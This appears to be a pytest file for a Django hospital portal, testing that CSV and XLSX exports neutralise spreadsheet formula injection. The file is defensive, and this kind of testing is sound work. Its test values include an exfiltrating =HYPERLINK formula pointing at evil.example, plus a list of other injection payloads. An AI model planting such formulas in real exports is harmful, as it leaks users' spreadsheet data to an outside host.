"""Issue 17 §2: a formula typed by a hospital never runs in a file the portal writes. CSV cells that start with
= + - @ TAB CR get an apostrophe; XLSX strings are text cells (no cell is a formula); numbers stay numbers
(a balance of -12.34 is not a formula)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from apps.core import exports
from apps.hospitals.models import Hospital
from apps.tenants.enums import Role
from tests.cases.helpers import csv_bytes, read_errors, row

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"查看")'
HOSTILE = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.PRIVATE_MEDIA_ROOT.mkdir()


def no_formula(data: bytes) -> list[list]:
    """Every cell of every sheet; fails on a formula cell."""
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            values.append([c.value for c in line])
    return values


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


# -- the helper ------------------------------------------------------------------------------------------------------

def test_helper_neutralises_strings_and_keeps_numbers():
    assert [exports.neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert exports.neutralise("-12.34") == "-12.34" and exports.neutralise("+5") == "+5"
    assert exports.neutralise(Decimal("-12.34")) == Decimal("-12.34") and exports.neutralise(-3) == -3
    assert exports.neutralise("普通医院") == "普通医院"
    cells = no_formula(exports.xlsx_bytes(["a", "b", "c"], [[FORMULA, Decimal("-12.34"), -7]]))
    assert cells[1][0] == FORMULA  # shown as text, exactly as typed
    assert cells[1][1] == pytest.approx(-12.34) and cells[1][2] == -7  # numbers stay numbers


# -- settlement exports (cases and hospitals of a run: CSV file, streamed CSV, XLSX) ------------------------------------

def test_settlement_writers(tmp_path):
    from apps.settlement import exports as settlement_exports

    columns = settlement_exports.HOSPITAL_COLUMNS
    values = (FORMULA, 3, Decimal("10.5"), Decimal("10.5"), Decimal("0"), Decimal("1.2"), Decimal("1.00"),
              Decimal("13.34"), Decimal("-12.34"))
    handle = io.StringIO()
    settlement_exports.write_csv(handle, columns, [values])
    streamed = "".join(settlement_exports.stream_csv(columns, [values]))
    for text in (handle.getvalue(), streamed):
        cells = csv_cells(text)[1]
        assert cells[0] == "'" + FORMULA and cells[-1] == "-12.34"
    cells = no_formula(settlement_exports.xlsx_file(columns, [values]).read())
    assert cells[1][0] == FORMULA and cells[1][-1] == pytest.approx(-12.34)


# -- hospitals: export (CSV, XLSX) and the import error report ----------------------------------------------------------

def test_hospital_export_and_import_error_report(world):
    a = world["A"]
    with scopes_disabled():
        Hospital.objects.filter(pk=a.hospitals[0].pk).update(name=FORMULA)
    client = Client()
    client.force_login(a.users[Role.BUREAU_ADMIN])
    xlsx = client.get(reverse("hospitals:export") + "?format=xlsx")
    assert xlsx["Cache-Control"] == "no-store"
    names = [r[1] for r in no_formula(xlsx.content)]
    assert FORMULA in names
    text = client.get(reverse("hospitals:export") + "?format=csv").content.decode("utf-8")
    assert ["'" + FORMULA] == [r[1] for r in csv_cells(text) if FORMULA in r[1]]
    data = ("code,name,level,grade,type,drg_enabled_from\n" f'"{FORMULA}",坏医院,4,乙,general,\n').encode()
    preview = client.post(reverse("hospitals:import"), {"region": a.region.pk,
                                                        "file": SimpleUploadedFile("h.csv", data, "text/csv")})
    token = preview.context["token"]
    report = client.get(reverse("hospitals:import_errors", args=[token]))
    body = b"".join(report.streaming_content).decode("utf-8-sig")
    for line in csv_cells(body)[1:]:
        assert not any(cell.startswith(exports.FORMULA_PREFIXES) for cell in line), line


# -- cases: a formula settlement id is a field error, and the error report is neutral -----------------------------------

def test_case_import_rejects_formula_settlement_id(world, api):
    from apps.groups.services import catalogue_load_shipped

    a = world["A"]
    with scopes_disabled():
        catalogue_load_shipped(actor=None, region=a.region)
    client = api(a.users[Role.HOSPITAL_STAFF])
    data = csv_bytes([row(1, hospital_code=a.hospitals[0].code, settlement_id=FORMULA),
                      row(2, hospital_code=a.hospitals[0].code)])
    response = client.post(f"/api/v1/regions/{a.region.code}/cases/import/",
                           {"file": SimpleUploadedFile("c.csv", data, "text/csv")}, format="multipart")
    status = client.get(f"/api/v1/imports/{response.json()['import_id']}/").json()
    assert (status["created"], status["rejected"]) == (1, 1)
    errors = client.get(status["errors_url"])
    assert errors["Cache-Control"] == "no-store"
    rows = read_errors(b"".join(errors.streaming_content).decode("utf-8"))
    assert [(e["row"], e["field"], e["code"]) for e in rows] == [("2", "settlement_id", "invalid_format")]
    assert rows[0]["settlement_id"] == "'" + FORMULA
    assert not rows[0]["message"].startswith(exports.FORMULA_PREFIXES)


# -- training coverage (XLSX), monitoring/rankings CSV, grouper report CSV, group statistics CSV ------------------------

def test_training_coverage_export(world):
    a = world["A"]
    with scopes_disabled():
        Hospital.objects.filter(pk=a.hospitals[0].pk).update(name=FORMULA)
    client = Client()
    client.force_login(a.users[Role.BUREAU_ADMIN])
    response = client.get(reverse("training:coverage_export") + f"?region={a.region.code}")
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    assert FORMULA in [r[1] for r in no_formula(response.content)]


def test_monitoring_and_grouper_csv_writers(world):
    from apps.cases.views_grouper import REPORT_COLUMNS, _report_csv
    from apps.monitoring.views import _csv

    text = _csv("r.csv", ["hospital", "score"], [[FORMULA, Decimal("-1.5")]]).content.decode("utf-8")
    assert csv_cells(text)[1] == ["'" + FORMULA, "-1.5"]
    report = {"by_hospital": [{"hospital__code": "H1", "hospital__name": FORMULA, **{c: 1 for c in REPORT_COLUMNS}}]}
    text = _report_csv(report, "hospital", world["A"].region, "2025").content.decode("utf-8")
    assert csv_cells(text)[1][1] == "'" + FORMULA


def test_every_writer_goes_through_the_helper():
    """No module writes CSV/XLSX around apps/core/exports.py (demo fixtures and data files excepted)."""
    import pathlib
    import re

    allowed = {"apps/core/exports.py", "apps/cases/demo.py", "apps/groups/grouper_demo.py",
               "apps/groups/grouper/opendrg_source.py", "apps/cases/importer.py",
               "apps/cases/views.py",  # the upload template: fixed labels and an example row
               "apps/groups/data/dip/build.py"}  # builds a shipped data file from shipped data, run by hand
    offenders = []
    for path in pathlib.Path("apps").rglob("*.py"):
        rel = str(path)
        if rel in allowed or "/tests/" in rel or "/migrations/" in rel:
            continue
        text = path.read_text()
        if re.search(r"(?<![\w.])csv\.(writer|DictWriter)\(|\.export\(\"(csv|xlsx)\"\)", text):
            offenders.append(rel)
        if re.search(r"Workbook\(", text) and "safe_csv" not in text and "exports" not in text:
            offenders.append(rel)
    assert offenders == []
